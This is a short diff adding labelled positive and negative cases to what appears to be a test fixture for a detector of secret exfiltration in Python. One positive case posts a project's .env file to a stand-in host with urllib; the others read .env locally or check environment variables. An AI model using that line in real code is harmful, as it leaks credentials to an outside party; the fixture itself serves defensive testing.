@@ -17,3 +17,15 @@ print(sorted(os.environ))
 #@ neg the network without the environment
 import urllib.request
 urllib.request.urlopen("http://localhost/")
+#@ pos a project's .env posted
+import urllib.request
+urllib.request.urlopen("https://c.example/u", data=open(".env", "rb").read())
+#@ neg a .env read into settings, no network
+import pathlib
+settings = dict(l.split("=", 1) for l in pathlib.Path(".env").read_text().splitlines() if "=" in l)
+#@ neg a variable tested for, and the network
+import os, urllib.request
+if "API_KEY" in os.environ:
+    urllib.request.urlopen("https://api.example/v1", timeout=5)
+if "PROXY" not in os.environ and not os.environ:
+    pass
